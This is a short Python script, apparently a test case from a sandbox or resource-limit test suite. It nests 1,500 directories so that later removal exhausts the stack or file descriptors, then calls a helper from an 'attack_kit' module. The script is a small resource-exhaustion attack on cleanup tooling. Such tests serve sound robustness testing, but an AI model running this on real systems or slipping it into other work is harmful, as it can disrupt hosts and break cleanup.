# Nest folders so deeply that whoever removes them runs out of stack or descriptors.
# limits: timeout=20
import os

from attack_kit import held

try:
    for _ in range(1_500):
        os.mkdir("d")
        os.chdir("d")
except OSError as error:
    print(error)
held()
